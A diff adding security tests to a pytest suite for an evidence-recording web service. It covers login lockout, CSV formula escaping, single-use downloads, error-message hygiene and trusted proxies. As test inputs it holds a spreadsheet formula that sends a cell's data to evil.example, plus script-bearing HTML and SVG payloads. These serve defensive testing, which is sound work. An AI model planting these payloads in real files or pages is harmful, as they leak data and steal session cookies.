@@ -7,6 +7,8 @@ SVG file with script in them); the API and the pages served by TestClient as
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import uuid
 from collections.abc import Iterator
@@ -15,22 +17,28 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
+import httpx2
 import pytest
 from fastapi.testclient import TestClient
 from sqlalchemy import select
 
 from chain.entries import decode
 from evidock import settings as settings_mod
+from evidock import spreadsheet
 from evidock.api.factory import create_app
+from evidock.api.listen import Listen
+from evidock.api.server import HttpServer
 from evidock.app import App, open_app, retention_context
+from evidock.cli import main
 from evidock.keys import init_key
-from evidock.settings import Settings
+from evidock.login_backoff import Backoff
+from evidock.settings import ConfigError, Settings
 from retention import labelling
 from storage import access, journal
 from storage.access import Person, Role
 from storage.catalog import log_entries
 from tests import media
-from tests.conftest import add_people, dock, raw_config, staff, station_env, write_config
+from tests.conftest import add_people, add_person, dock, free_port, raw_config, staff, station_env, use, write_config
 
 pytestmark = pytest.mark.s3
 
@@ -39,6 +47,7 @@ CASE = "京朝公(治)行罚决字[2026]77号"
 SCRIPT_HTML = b"<!doctype html><title>x</title><script>fetch('/api/v1/recordings')</script>"
 SCRIPT_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
 SANDBOX = "sandbox"
+PASSWORD = "correct horse battery"  # noqa: S105 - a test user's password
 
 
 @dataclass
@@ -106,13 +115,13 @@ def world(tmp_path_factory: pytest.TempPathFactory, s3_env: dict[str, str]) -> I
         yield World(settings, evi, client, tokens, video, html, svg)
 
 
-def _approved(world: World, rec: str, *, action: str = "download", **extra: Any) -> int:
+def _approved(world: World, rec: str, *, action: str = "download", approver: str = "c2", **extra: Any) -> int:
     asked = world.post(
         "c1", "/api/v1/access-requests", {"recordings": [rec], "action": action, "reason": "court", **extra}
     )
     assert asked.status_code == 200, asked.text
     number = int(asked.json()["id"])
-    approved = world.post("c2", f"/api/v1/access-requests/{number}/approve", {"reason": "letter checked"})
+    approved = world.post(approver, f"/api/v1/access-requests/{number}/approve", {"reason": "letter checked"})
     assert approved.status_code == 200, approved.text
     return number
 
@@ -249,16 +258,201 @@ def test_the_relabel_between_the_check_and_the_entry_is_caught_in_the_entry_tran
 
 def test_an_approval_by_someone_since_disabled_is_not_delivered(world: World) -> None:
     rec = world.svg
-    number = _approved(world, rec)
+    world.tokens["c.gone"] = add_person(world.settings, "c.gone", Role.CUSTODIAN)
+    number = _approved(world, rec, approver="c.gone")
     with world.evi.catalog.begin() as conn:
         access.disable_user(
             conn,
             journal=world.evi.journal,
             actor=Person("root", Role.ADMIN),
-            name="c2",
+            name="c.gone",
             reason="left",
             time=world.evi.now(),
         )
     refused = world.get("c1", f"/api/v1/recordings/{rec}/content?request={number}")
     assert refused.status_code == 403, refused.text
     assert "approver is disabled" in refused.json()["detail"]
+
+
+# -- 5. lockout: per (name, address), and a valid token is never refused -------------------------------
+
+
+def test_a_disabled_token_in_a_loop_locks_out_nobody_else_on_the_same_address(world: World) -> None:
+    token = add_person(world.settings, "old.script", Role.OFFICER, officer_id="P7701")
+    with world.evi.catalog.begin() as conn:
+        access.disable_user(
+            conn,
+            journal=world.evi.journal,
+            actor=Person("root", Role.ADMIN),
+            name="old.script",
+            reason="retired",
+            time=world.evi.now(),
+        )
+    client = TestClient(create_app(world.evi, backoff=Backoff(attempts=3, forget_seconds=60)))
+    stale = {"Authorization": f"Bearer {token}", "X-Evidock-User": "old.script"}
+    answers = [client.get("/api/v1/recordings", headers=stale).status_code for _ in range(20)]
+    assert answers[:2] == [401] * 2
+    assert set(answers[2:]) == {429}, "the third failure in a row starts the wait"
+    for name in ("o1", "c1", "a1"):
+        assert client.get("/api/v1/recordings", headers=world.auth(name)).status_code == 200, name
+    # Someone guessing o1's token from this address does not stop o1's valid token either.
+    wrong = {"Authorization": "Bearer evk_guess", "X-Evidock-User": "o1"}
+    assert [client.get("/api/v1/recordings", headers=wrong).status_code for _ in range(5)][-1] == 429
+    assert client.get("/api/v1/recordings", headers=world.auth("o1")).status_code == 200
+
+
+def test_failed_web_logins_wait_per_name_and_address_and_back_off(world: World) -> None:
+    with world.evi.catalog.begin() as conn:
+        access.add_user(
+            conn,
+            journal=world.evi.journal,
+            actor=Person("root", Role.ADMIN),
+            name="pw.user",
+            role=Role.CUSTODIAN,
+            password_hash=access.hash_password(PASSWORD),
+            time=world.evi.now(),
+        )
+    app = create_app(world.evi)
+    attacker = TestClient(app, follow_redirects=False, client=("10.9.9.9", 40000))
+    owner = TestClient(app, follow_redirects=False, client=("10.1.1.1", 40001))
+    form = _csrf(attacker.get("/login").text)
+    answers = [
+        attacker.post("/login", data={"name": "pw.user", "secret": f"guess {n}!", "csrf": form}).status_code
+        for n in range(world.settings.web.login_attempts + 2)
+    ]
+    assert answers[: world.settings.web.login_attempts - 1] == [401] * (world.settings.web.login_attempts - 1)
+    assert answers[-2:] == [429, 429]
+    # Even the right password from the attacker's address waits (a guess must stay slow) ...
+    right = attacker.post("/login", data={"name": "pw.user", "secret": PASSWORD, "csrf": form})
+    assert right.status_code == 429
+    # ... but the owner, from their own machine, logs in; so does a colleague from the attacker's address.
+    mine = owner.post("/login", data={"name": "pw.user", "secret": PASSWORD, "csrf": _csrf(owner.get("/login").text)})
+    assert mine.status_code == 303, mine.text[:300]
+    colleague = attacker.post("/login", data={"name": "c1", "secret": world.tokens["c1"], "csrf": form})
+    assert colleague.status_code == 303
+
+
+def _csrf(html: str) -> str:
+    found = re.search(r'name="csrf" value="([^"]+)"', html)
+    assert found is not None
+    return found.group(1)
+
+
+# -- 4. no CSV cell the product writes can start a formula --------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
+
+
+def test_a_formula_typed_as_a_reason_is_text_in_every_audit_csv(
+    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    looked = world.get("o1", f"/api/v1/recordings/{world.video}", params={"reason": FORMULA})
+    assert looked.status_code == 200, looked.text
+    api = world.get("a1", "/api/v1/audit/access", params={"format": "csv", "reason": "audit"})
+    assert api.status_code == 200, api.text
+    pages = world.web("a1")
+    web = pages.get("/audit.csv")
+    assert web.status_code == 200, web.text[:300]
+    use(monkeypatch, "a1", world.tokens["a1"])
+    assert main(["--config", str(world.settings.source), "audit", "access", "--csv"]) == 0
+    cli = capsys.readouterr().out
+    for where, text in (("api", api.text), ("web", web.text), ("cli", cli)):
+        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+        assert "'" + FORMULA in cells, where
+        assert not any(c.startswith(spreadsheet.FORMULA_STARTS) for c in cells), where
+
+
+def test_a_formula_as_a_case_number_is_text_in_the_compliance_csv(
+    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    labelling.label(
+        retention_context(world.evi),
+        [world.html],
+        case_number="=1+1",
+        parties=["@李四"],
+        handler="-赵六",
+        by="c1",
+        now=world.evi.now(),
+    )
+    use(monkeypatch, "c1", world.tokens["c1"])
+    assert main(["--config", str(world.settings.source), "compliance", "--csv"]) == 0
+    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
+    assert "'=1+1" in cells
+    assert not any(c.startswith(spreadsheet.FORMULA_STARTS) for c in cells)
+
+
+# -- 6. the low items ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["a1", "root", "s1"])
+def test_a_role_that_may_not_export_is_refused_at_once(world: World, name: str) -> None:
+    before = world.log_size()
+    body = {"request": 1, "case_number": CASE, "maker": "x", "extractor": "y"}
+    answer = world.post(name, "/api/v1/exports", body)
+    assert answer.status_code == 403, answer.text
+    assert answer.json()["error"] == "NotPermitted"
+    assert world.log_size() == before
+
+
+def test_a_range_on_a_single_use_download_is_refused_and_spends_nothing(world: World) -> None:
+    rec = world.video
+    number = _approved(world, rec)
+    url = f"/api/v1/recordings/{rec}/content?request={number}"
+    before = world.log_size()
+    ranged = world.get("c1", url, headers={"Range": "bytes=0-9"})
+    assert ranged.status_code == 400, ranged.text
+    assert "single-use" in ranged.json()["detail"]
+    assert "not used" in ranged.json()["detail"]
+    assert world.log_size() == before, "nothing delivered, nothing logged"
+    whole = world.get("c1", url)
+    assert whole.status_code == 200
+    assert len(whole.content) == int(whole.headers["content-length"]) > 10
+    assert world.get("c1", url).status_code == 403, "spent by the full delivery"
+
+
+def test_a_422_says_where_and_why_but_never_echoes_the_input(world: World) -> None:
+    secret = "SECRET-" + "x" * 3000
+    answer = world.post(
+        "c1", "/api/v1/access-requests", {"recordings": [world.video], "action": "copy", "reason": secret}
+    )
+    assert answer.status_code == 422
+    assert "SECRET" not in answer.text
+    assert answer.json()["detail"][0]["loc"] == ["body", "reason"]
+    wrong = world.post("c1", "/api/v1/access-requests", {"recordings": "evk_abc", "action": "copy", "reason": "x"})
+    assert wrong.status_code == 422
+    assert "evk_abc" not in wrong.text
+
+
+def test_trusted_proxies_must_be_addresses(tmp_path: Path, s3_env: dict[str, str]) -> None:
+    raw = raw_config(tmp_path, "bucket-b", s3_env["S3_ENDPOINT"], web={"trusted_proxies": ["10.0.0.1", "proxy.local"]})
+    with pytest.raises(ConfigError, match=r"web.trusted_proxies = .*'proxy.local' is not an IP address or network"):
+        settings_mod.load(write_config(tmp_path / "config.toml", raw), station_env(s3_env))
+    raw["web"]["trusted_proxies"] = ["10.0.0.0/8", "127.0.0.1"]
+    loaded = settings_mod.load(write_config(tmp_path / "config.toml", raw), station_env(s3_env))
+    assert loaded.web.trusted_proxies == ("10.0.0.0/8", "127.0.0.1")
+    plain = write_config(tmp_path / "c2.toml", raw_config(tmp_path, "bucket-b", s3_env["S3_ENDPOINT"]))
+    assert settings_mod.load(plain, station_env(s3_env)).web.trusted_proxies == (), "no proxy trusted by default"
+
+
+@pytest.mark.parametrize(("trusted", "limited"), [((), True), (("127.0.0.1",), False)])
+def test_x_forwarded_for_is_believed_only_from_a_configured_proxy(
+    world: World, trusted: tuple[str, ...], limited: bool
+) -> None:
+    """Wrong tokens, each claiming another client address: counted for 127.0.0.1 unless it is a trusted proxy."""
+    port = free_port()
+    server = HttpServer(
+        create_app(world.evi, backoff=Backoff(attempts=2)), Listen("127.0.0.1", port), trusted_proxies=trusted
+    )
+    server.start()
+    try:
+        codes = [
+            httpx2.get(
+                f"http://127.0.0.1:{port}/api/v1/recordings",
+                headers={"Authorization": "Bearer evk_x", "X-Evidock-User": "o1", "X-Forwarded-For": f"10.0.0.{n}"},
+                timeout=10,
+            ).status_code
+            for n in range(4)
+        ]
+    finally:
+        server.stop()
+    assert (429 in codes) is limited, codes
